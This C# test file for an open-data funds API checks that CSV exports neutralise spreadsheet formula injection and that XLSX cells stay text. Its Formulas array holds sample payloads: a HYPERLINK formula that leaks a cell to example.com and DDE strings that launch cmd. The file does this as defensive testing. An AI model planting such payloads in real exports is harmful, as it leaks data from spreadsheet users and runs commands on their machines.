using System.Globalization;
using System.Text.Json;
using OpenAid.Api.Exports;
using OpenAid.Api.Tests.Infrastructure;

namespace OpenAid.Api.Tests.Exports;

/// <summary>
/// CSV exports cannot attack their readers: public text that a spreadsheet would run as a formula is written with a
/// leading ', while NDJSON and GraphQL keep it as it was entered; XLSX keeps it too, as a text cell that is never a formula. These tests write funds, so they have a demo-data
/// server of their own.
/// </summary>
public class CsvInjectionTests(IsolatedDemoServer server) : IClassFixture<IsolatedDemoServer>
{
    // Public text is trimmed when it is entered, so a tab or carriage return cannot lead it here: the table test covers those.
    private static readonly string[] Formulas =
    [
        "=HYPERLINK(\"https://example.com/?leak=\"&A1,\"查看详情\")",
        "+1+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];

    [Fact]
    public async Task Formula_text_is_prefixed_in_CSV_and_kept_as_entered_in_NDJSON_and_GraphQL()
    {
        var publisher = await TestPublisher.ForDemoCountyAsync(server);
        var year = DemoYears.Year(2020);
        var created = await FundsNamedByFormulasAsync(publisher, year);

        var query = $"region={publisher.County}&year={year}";
        var csv = ExportFiles.CsvRows(await server.Client.GetByteArrayAsync($"export/funds.csv?{query}")).ToDictionary(r => r["code"]);
        var ndjson = ExportFiles.NdjsonRows(await server.Client.GetStringAsync($"export/funds.ndjson?{query}")).ToDictionary(r => r.GetProperty("code").GetString()!);

        foreach (var (code, formula) in created)
        {
            var graphQL = await server.PostAsync("query($code: String!) { fund(code: $code) { name purpose amount { fen } } }", new { code });
            Assert.Equal(formula, graphQL.Get("data", "fund", "name").GetString());
            Assert.Equal(formula, graphQL.Get("data", "fund", "purpose").GetString());
            Assert.Equal(formula, ndjson[code].GetProperty("name").GetString());
            Assert.Equal(formula, ndjson[code].GetProperty("purpose").GetString());
            Assert.Equal("'" + formula, csv[code]["name"]);
            Assert.Equal("'" + formula, csv[code]["purpose"]);
            Assert.Equal(formula, CsvCells.Restore(csv[code]["name"]));

            // Numbers stay numbers.
            Assert.Equal("1000000", csv[code]["amount_fen"]);
            Assert.Equal("10000.00", csv[code]["amount_yuan"]);
            Assert.Equal(year.ToString(CultureInfo.InvariantCulture), csv[code]["fiscal_year"]);
        }

        // Every other cell of the export is the NDJSON value as it is: only the formulas were touched.
        var list = new OpenData(server.Services).Lists["funds"];
        Assert.True(csv.Count > created.Count, $"the demo county has funds of its own in {year}");
        foreach (var (code, row) in csv)
        {
            foreach (var column in list.Columns)
            {
                var json = ndjson[code].GetProperty(column.Name);
                var expected = json.ValueKind switch
                {
                    JsonValueKind.Null => "",
                    JsonValueKind.String => json.GetString()!,
                    JsonValueKind.True => "true",
                    JsonValueKind.False => "false",
                    JsonValueKind.Array => string.Join("; ", json.EnumerateArray().Select(v => v.GetString())),
                    _ => json.GetRawText(),
                };
                var touched = created.ContainsKey(code) && column.Name is "name" or "purpose";
                Assert.Equal(touched ? "'" + expected : expected, row[column.Name]);
            }
        }
    }

    [Fact]
    public async Task Formula_text_is_a_text_cell_in_XLSX_exactly_as_entered_never_a_formula()
    {
        var publisher = await TestPublisher.ForDemoCountyAsync(server);
        var year = DemoYears.Year(2021);
        var created = await FundsNamedByFormulasAsync(publisher, year);

        var body = await server.Client.GetByteArrayAsync($"export/funds.xlsx?region={publisher.County}&year={year}");
        var cells = ExportFiles.XlsxCells(body).ToDictionary(r => r["code"].Value);
        var rows = ExportFiles.XlsxRows(body).ToDictionary(r => (string)r["code"]);

        foreach (var (code, formula) in created)
        {
            Assert.Equal(("str", false, formula), (cells[code]["name"].Type, cells[code]["name"].IsFormula, cells[code]["name"].Value));
            Assert.Equal(("str", false, formula), (cells[code]["purpose"].Type, cells[code]["purpose"].IsFormula, cells[code]["purpose"].Value));
            Assert.Equal(formula, rows[code]["name"]);
            Assert.Equal(("n", "1000000"), (cells[code]["amount_fen"].Type, cells[code]["amount_fen"].Value));
        }

        Assert.DoesNotContain("<x:f>", ExportFiles.ZipText(body), StringComparison.Ordinal);
        Assert.DoesNotContain("<f>", ExportFiles.ZipText(body), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("=HYPERLINK(\"https://example.com\",\"x\")", "'=HYPERLINK(\"https://example.com\",\"x\")")]
    [InlineData("+1+1", "'+1+1")]
    [InlineData("-1+1", "'-1+1")]
    [InlineData("@SUM(A1:A2)", "'@SUM(A1:A2)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\tplain", "'\tplain")]
    [InlineData("\r=1+1", "'\r=1+1")]
    [InlineData("\rplain", "'\rplain")]
    [InlineData(" =1+1", "' =1+1")]
    [InlineData("\u3000\u3000=1+1", "'\u3000\u3000=1+1")]
    [InlineData("\n-1+1", "'\n-1+1")]
    [InlineData("-", "'-")]
    [InlineData("'=1+1", "''=1+1")]
    [InlineData("''@x", "'''@x")]
    [InlineData("", "")]
    [InlineData("   ", "   ")]
    [InlineData("'", "'")]
    [InlineData("'plain", "'plain")]
    [InlineData("县级财政专项扶贫资金", "县级财政专项扶贫资金")]
    [InlineData("\u3000\u3000经研究，资金分配如下。", "\u3000\u3000经研究，资金分配如下。")]
    [InlineData("1+1=2", "1+1=2")]
    [InlineData("a=b", "a=b")]
    [InlineData("user@example.com", "user@example.com")]
    [InlineData("GS-451021-2019-0031", "GS-451021-2019-0031")]
    [InlineData("0776-7612317", "0776-7612317")]
    [InlineData("-5", "-5")]
    [InlineData("-1234.50", "-1234.50")]
    [InlineData("-1.5e3", "'-1.5e3")]
    [InlineData("+5", "'+5")]
    [InlineData("--5", "'--5")]
    public void A_cell_that_a_spreadsheet_would_run_is_prefixed_and_the_rule_can_be_undone(string cell, string written)
    {
        Assert.Equal(written, CsvCells.Neutralise(cell));
        Assert.Equal(cell, CsvCells.Restore(written));
    }

    [Fact]
    public void Only_text_columns_are_neutralised_decided_by_their_GraphQL_type()
    {
        var funds = new OpenData(server.Services).Lists["funds"].Columns.ToDictionary(c => c.Name);
        var notices = new OpenData(server.Services).Lists["notices"].Columns.ToDictionary(c => c.Name);

        Assert.True(CsvCells.IsText(funds["name"]));
        Assert.True(CsvCells.IsText(funds["purpose"]));
        Assert.True(CsvCells.IsText(funds["amount_yuan"])); // a String, but a plain number in it is left alone
        Assert.True(CsvCells.IsText(funds["id"]));
        Assert.True(CsvCells.IsText(funds["source_type"]));
        Assert.False(CsvCells.IsText(funds["amount_fen"]));
        Assert.False(CsvCells.IsText(funds["fiscal_year"]));
        Assert.False(CsvCells.IsText(funds["decided_on"]));
        Assert.False(CsvCells.IsText(notices["is_late"]));
        Assert.False(CsvCells.IsText(notices["notice_period_days"]));
    }

    /// <summary>A fund of the publisher's county for each formula, named and described by it: code → formula.</summary>
    private static async Task<Dictionary<string, string>> FundsNamedByFormulasAsync(TestPublisher publisher, int year)
    {
        var created = new Dictionary<string, string>();
        foreach (var formula in Formulas)
        {
            var fund = await publisher.MutateAsync("createFund", new
            {
                name = formula,
                documentNumber = $"测财农〔{year}〕{Guid.NewGuid().ToString("N")[..8]}号",
                sourceType = "COUNTY_FISCAL",
                level = "COUNTY",
                fiscalYear = year,
                amountFen = 1_000_000,
                region = publisher.County,
                purpose = formula,
                decidedOn = $"{year}-06-01",
            }, "fund { code }");
            created[fund.GetProperty("fund").GetProperty("code").GetString()!] = formula;
        }

        return created;
    }
}
